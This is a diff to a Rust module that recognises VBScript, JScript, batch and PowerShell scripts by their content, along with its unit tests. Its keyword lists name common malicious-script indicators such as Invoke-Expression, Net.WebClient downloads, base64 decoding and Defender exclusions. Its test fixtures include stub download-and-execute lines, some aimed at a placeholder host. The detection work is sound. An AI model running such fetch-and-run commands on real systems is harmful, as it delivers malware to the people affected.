@@ -1,136 +1,212 @@
-//! Scripts known by their text alone, for files whose name is lost or lies. Papers that talk about programs must not
-//! be taken for one, so a word of the language is not enough: its beginning or two different marks are asked for.
+//! Program text known by what stands in it, for scripts whose name is missing. Careful on purpose: each language needs
+//! words that no letter and no listing of another language has.
 
-use super::Kind;
-use crate::text::guess;
+/// How much of a text is looked at.
+const LOOKED_AT: usize = 16 << 10;
 
-/// How much of a file is looked at.
-const LOOKED_AT: usize = 64 << 10;
-
-/// The words that show a language: one of `sure` is enough, or two of `marks`, where the text begins with one of
-/// `starts` if there are any.
-struct Look {
-    kind: &'static str,
-    starts: &'static [&'static str],
-    sure: &'static [&'static str],
-    marks: &'static [&'static str],
+/// VBScript that uses objects of Windows.
+pub(super) fn is_visual_basic(bytes: &[u8]) -> bool {
+    let Some(text) = code(bytes) else { return false };
+    let acts =
+        ["createobject(", "wscript.", "executeglobal", "getobject("].iter().any(|word| text.contains(word));
+    let starts = [
+        "dim ",
+        "set ",
+        "on error resume next",
+        "function ",
+        "sub ",
+        "private ",
+        "public ",
+        "execute",
+        "const ",
+    ];
+    let lines = text.lines().map(str::trim_start).flat_map(|line| line.split(':').map(str::trim_start));
+    let told = lines.filter(|line| starts.iter().any(|start| line.starts_with(start))).take(2).count();
+    let foreign = ["function(", "var ", "};", "#include", "echo off", "$", "attribute vb_"]
+        .iter()
+        .any(|word| text.contains(word));
+    acts && told >= 2 && !foreign
 }
 
-#[rustfmt::skip]
-const LOOKS: &[Look] = &[
-    Look {
-        kind: "hta", starts: &["<"],
-        sure: &["<hta:application"],
-        marks: &["<script", "createobject", "activexobject", "wscript.", "window.close", "self.close", "resizeto(", "execute(", "powershell", "vbscript"],
-    },
-    Look {
-        kind: "wsf", starts: &["<"],
-        sure: &["<scriptlet", "<job>", "<job id=", "<registration", "<component"],
-        marks: &[],
-    },
-    Look {
-        kind: "ps1", starts: &[],
-        sure: &["frombase64string(", "invoke-expression", "new-object net.webclient", "new-object system.net.webclient", "start-bitstransfer", "[reflection.assembly]::load", "invoke-webrequest", "add-mppreference"],
-        marks: &["$env:", "iex(", "iex (", "|iex", "| iex", "[system.", "[convert]::", "-join", "start-process", "write-host", "param(", "function ", "$null", "get-content", ".downloadstring(", ".downloadfile(", "foreach(", "foreach ("],
-    },
-    Look {
-        kind: "bat", starts: &["@echo off", "@echo ", "echo off", "@cls", "cls\n", "rem ", "::", "@setlocal", "setlocal", "@set ", "set ", "start ", "@start ", "cmd ", "cmd.exe", "powershell", "mshta ", "curl ", "certutil ", "copy ", "xcopy ", "title ", "@powershell", "@cmd", "mode con", "@if ", "if not ", "rundll32", "@%", "%"],
-        sure: &["@echo off", "\ngoto ", "%~dp0", "%~f0", "%~nx0", "\nexit /b", "setlocal enabledelayedexpansion", "powershell -", "powershell.exe -", "cmd /c ", "cmd.exe /c ", "start /min", "start /b"],
-        marks: &["%temp%", "%appdata%", "%programdata%", "%userprofile%", ":~", "\nset ", "&&set ", "rundll32 ", "rundll32.exe ", "regsvr32 ", "mshta ", "curl ", "certutil ", "\ndel ", "\nexit", "\necho ", "\nstart ", "\ncopy ", "\nif exist", " > nul", ">nul", "timeout /t"],
-    },
-    Look {
-        kind: "vbs", starts: &[],
-        sure: &["createobject(\"wscript.shell\")", "createobject(\"shell.application\")", "getobject(\"winmgmts:", "executeglobal"],
-        marks: &["createobject(", "on error resume next", "wscript.sleep", "wscript.quit", "wscript.shell", "\ndim ", "\nset ", "\nend sub", "\nend function", "chr(", "execute(", "strreverse(", "wscript.scriptfullname"],
-    },
-    Look {
-        kind: "js", starts: &[],
-        sure: &["new activexobject(", "wscript.createobject(", "new enumerator("],
-        marks: &["wscript.", "fromcharcode", "eval(", "var ", "function ", "unescape(", "activexobject", "this[\"", "parseint(", ".split(\"\")", "return "],
-    },
-];
-
-impl Kind {
-    /// The kind of script that a text is by its words alone, whatever its name.
-    pub fn of_script(bytes: &[u8]) -> Option<&'static Self> {
-        let head = super::head(bytes, LOOKED_AT);
-        let is_wide = head.get(1) == Some(&0) || head.starts_with(b"\xff\xfe");
-        if !is_wide && !super::is_text(head) {
-            return None;
-        }
-        let text = if is_wide { crate::text::decode("utf-16", head) } else { guess(head) };
-        let text =
-            text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']).to_lowercase().replace("\r\n", "\n");
-        if text.starts_with("#@~^") {
-            return Self::named("vbe");
-        }
-        LOOKS.iter().find(|look| look.fits(&text)).and_then(|look| Self::named(look.kind))
-    }
+/// JScript of Windows Script Host, or one that runs text it decodes.
+pub(super) fn is_jscript(bytes: &[u8]) -> bool {
+    let Some(text) = code(bytes) else { return false };
+    let start = text.trim_start();
+    let begins = [
+        "var ",
+        "function",
+        "try",
+        "/*",
+        "//",
+        "eval(",
+        "(function",
+        "!function",
+        "this[",
+        "new ",
+        "const ",
+        "let ",
+        "if(",
+        "if (",
+        "[",
+        "while",
+        "for(",
+        "for (",
+    ];
+    let is_code =
+        text.contains(';') && text.contains('(') && (text.contains('=') || text.contains("function"));
+    let hosted = ["activexobject", "wscript.", "wsh.", "scripting.filesystemobject"]
+        .iter()
+        .any(|word| text.contains(word));
+    let evaluates = text.contains("eval(")
+        && ["fromcharcode", "unescape(", "\\x", "charcodeat"].iter().any(|word| text.contains(word));
+    let foreign = ["#include", "package ", "import ", "require(", "<?php", "createobject(", "dim "]
+        .iter()
+        .any(|word| text.contains(word));
+    is_code && begins.iter().any(|word| start.starts_with(word)) && (hosted || evaluates) && !foreign
 }
 
-impl Look {
-    fn fits(&self, text: &str) -> bool {
-        let begins = self.starts.is_empty() || self.starts.iter().any(|start| text.starts_with(start));
-        let count = || self.marks.iter().filter(|mark| text.contains(*mark)).count();
-        begins
-            && (self.sure.iter().any(|word| text.contains(word)) || count() >= 2)
-            && self.is_no_prose(text, count)
-    }
+/// A batch file that begins as one.
+pub(super) fn is_batch(bytes: &[u8]) -> bool {
+    let bytes = bytes.strip_prefix(b"\xff\xfe").unwrap_or(bytes);
+    let Some(text) = code(bytes) else { return false };
+    let start = text.trim_start();
+    let begins = [
+        "@echo off",
+        "@echo  off",
+        "@set ",
+        "@setlocal",
+        "@powershell",
+        "@cmd",
+        "@start ",
+        "@%",
+        "@if ",
+        "cmd /c ",
+        "cmd.exe /c ",
+        "powershell -",
+        "powershell.exe -",
+        "echo off\r",
+        "echo off\n",
+    ];
+    let first = start.lines().next().unwrap_or_default();
+    let sets = start
+        .lines()
+        .take(40)
+        .filter(|line| line.trim_start_matches('@').starts_with("set ") && line.contains('='))
+        .count();
+    begins.iter().any(|word| start.starts_with(word))
+        || first.contains("&@cls&@set")
+        || (sets >= 3 && text.matches(":~").count() >= 10)
+}
 
-    /// Letters and minutes mention commands; a language that may begin anyhow needs a third sign where lines are long
-    /// sentences.
-    fn is_no_prose(&self, text: &str, count: impl Fn() -> usize) -> bool {
-        let sentences = text.matches(". ").count() + text.matches("。").count();
-        let code = text.matches([';', '=', '(', '{', '$', '%']).count();
-        !self.starts.is_empty() || code > sentences * 4 && count() + code > 3
-    }
+/// PowerShell by its variables and what only it calls.
+pub(super) fn is_powershell(bytes: &[u8]) -> bool {
+    let Some(text) = code(bytes) else { return false };
+    let words = [
+        "new-object ",
+        "invoke-expression",
+        "iex ",
+        "iex(",
+        "|iex",
+        "| iex",
+        "[system.",
+        "[convert]::",
+        "[text.encoding]",
+        "-join",
+        "start-process",
+        "$env:",
+        "frombase64string",
+        "invoke-webrequest",
+        "set-executionpolicy",
+        "[char[]]",
+        "[byte[]]",
+        "write-host",
+    ];
+    let told = words.iter().filter(|word| text.contains(*word)).count();
+    let sets = text
+        .lines()
+        .flat_map(|line| line.split(';'))
+        .filter(|piece| assigns(piece.trim_start()))
+        .take(1)
+        .count();
+    let foreign =
+        ["<?php", "#!/", "#include", "function(", "dim ", "echo off"].iter().any(|word| text.contains(word));
+    told >= 2 && (sets >= 1 || text.contains("iex")) && !foreign
+}
+
+/// `$name = …`
+fn assigns(piece: &str) -> bool {
+    let Some(rest) = piece.strip_prefix('$') else { return false };
+    let end = rest
+        .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | ':' | '{' | '}')))
+        .unwrap_or(rest.len());
+    end > 0 && rest.get(end..).is_some_and(|after| after.trim_start().starts_with('='))
+}
+
+/// The beginning of a text in lower case, one byte a character; none if it is markup or no text.
+fn code(bytes: &[u8]) -> Option<String> {
+    let wide = bytes.starts_with(b"\xff\xfe");
+    let head = bytes.get(..LOOKED_AT).unwrap_or(bytes);
+    let narrow: String = head
+        .iter()
+        .filter(|byte| !(wide && (**byte == 0 || **byte >= 0xfe)))
+        .map(|byte| if byte.is_ascii() { char::from(byte.to_ascii_lowercase()) } else { '?' })
+        .collect();
+    let start = narrow.trim_start_matches('?').trim_start();
+    let is_code = super::is_text(bytes) && !start.starts_with('<') && !start.is_empty();
+    is_code.then(|| narrow.trim_start_matches('?').to_string())
 }
 
 #[cfg(test)]
 mod tests {
-    use super::*;
+    use crate::kind::Kind;
 
     #[test]
-    fn scripts_are_known_without_a_name() {
-        let rows: &[(&[u8], &str)] = &[
-            (b"@echo off\r\nstart notepad\r\n", "bat"),
-            (b"  @ECHO OFF\r\n%~dp0x.exe", "bat"),
-            (b"set a=pow\r\nset b=er\r\n%a%%b% x\r\nexit\r\n", "bat"),
-            (b"rem x\r\ncurl http://a.example/x -o %temp%\\x.dll\r\n", "bat"),
-            (b"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\na.Run \"calc\"", "vbs"),
-            (b"On Error Resume Next\r\nDim x\r\nx = Chr(67) & Chr(68)\r\nExecute(x)\r\n", "vbs"),
-            (b"var a = new ActiveXObject('WScript.Shell'); a.Run('calc');", "js"),
-            (b"<html><head><script language=\"vbscript\">CreateObject(\"x\")</script>", "hta"),
-            (b"<HTA:APPLICATION icon=\"#\" />", "hta"),
-            (b"<?xml version=\"1.0\"?><job id=\"1\"><script language=\"JScript\">x</script></job>", "wsf"),
-            (b"$a = New-Object Net.WebClient; $a.DownloadFile('http://a.example/', \"$env:TEMP\\x\")", "ps1"),
-            (b"#@~^AAAA==", "vbe"),
+    fn scripts_without_a_name_are_known() {
+        let rows = [
+            ("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run x", "vbs"),
+            ("On Error Resume Next: Set a = GetObject(\"x\")", "vbs"),
+            ("var a = new ActiveXObject('WScript.Shell'); a.Run('x');", "js"),
+            ("eval(unescape('%61')); var a = 1;", "js"),
+            ("@echo off\r\nset a=1\r\n", "bat"),
+            ("$a = New-Object Net.WebClient; iex $a.DownloadString('x')", "ps1"),
+            ("\u{feff}$b = [Convert]::FromBase64String('x'); $c = [Text.Encoding]::UTF8", "ps1"),
         ];
-        for (bytes, want) in rows {
-            let got = Kind::of_script(bytes).map(|kind| kind.id);
-            assert_eq!(got, Some(*want), "{}", String::from_utf8_lossy(bytes));
-            let wide: Vec<u8> = guess(bytes).encode_utf16().flat_map(u16::to_le_bytes).collect();
-            assert_eq!(Kind::of_script(&wide).map(|kind| kind.id), got);
+        for (text, want) in rows {
+            assert_eq!(Kind::of("", text.as_bytes()).id, want, "{text}");
+            assert_eq!(Kind::of("a.txt", text.as_bytes()).id, want, "{text}");
         }
     }
 
     #[test]
-    fn papers_and_data_are_no_scripts() {
-        for paper in [
-            "Dear all,\r\nplease start the program and set the date. We copy the files tomorrow.\r\n",
-            "手順書\r\nPowerShell を管理者で起動し、Start-Process を実行してください。結果は Write-Host で表示されます。",
-            "a,b,c\r\n1,2,3\r\n",
-            "{\"a\": 1, \"b\": [1,2,3]}",
-            "<html><head><title>x</title></head><body>text</body></html>",
-            "<?xml version=\"1.0\"?><invoice><total>5</total></invoice>",
-            "Start of the meeting: 10:00\r\nEnd: 11:00\r\n",
-            "SELECT a FROM b WHERE c = 1;",
-            "The function returns a value. We evaluate (see var 1). Please return the form.",
-            "",
+    fn letters_and_other_texts_are_not_scripts() {
+        for text in [
+            "Dear all,\nplease set the value with CreateObject(x).\nDim light.",
+            "function a() { return 1; }\nvar x = a();",
+            "import os\nx = eval('1') ; y = (1)",
+            "Echo off is what you write first.",
+            "The price is $a = 3 and [system. that is all",
+            "{\"a\": \"eval(unescape(1))\"}",
         ] {
-            assert_eq!(Kind::of_script(paper.as_bytes()), None, "{paper}");
+            assert_eq!(Kind::of("", text.as_bytes()).id, "text", "{text}");
         }
-        assert_eq!(Kind::of_script(&[0; 500]), None);
-        assert_eq!(Kind::of_script(b"\x01\x02\x03@echo off"), None);
+        assert_eq!(Kind::of("a.js", b"@echo off").id, "js");
+        assert_eq!(Kind::of("a.csv", b"@echo off").id, "csv");
+        assert_eq!(Kind::of("a.hta", b"<html><script>x</script>").id, "hta");
+        assert_eq!(Kind::of("a.jse", b"var a = 1;").id, "vbe");
+    }
+
+    #[test]
+    fn pages_are_known_however_they_begin() {
+        for (name, bytes) in [
+            ("a.html", &b"Hello <b>you</b>"[..]),
+            ("", b"<div><form action=x>"),
+            ("", b"<?xml version=\"1.0\"?><!DOCTYPE html><html xmlns=\"x\">"),
+            ("", b"\xff\xfe<\0h\0t\0m\0l\0>\0"),
+            ("", b"\n<!-- saved --><title>x</title>"),
+        ] {
+            assert_eq!(Kind::of(name, bytes).id, "html", "{name} {bytes:?}");
+        }
+        assert_eq!(Kind::of("a.html", b"\0\x01\x02").id, "data");
+        assert_eq!(Kind::of("", b"<tag>no page").id, "text");
     }
 }
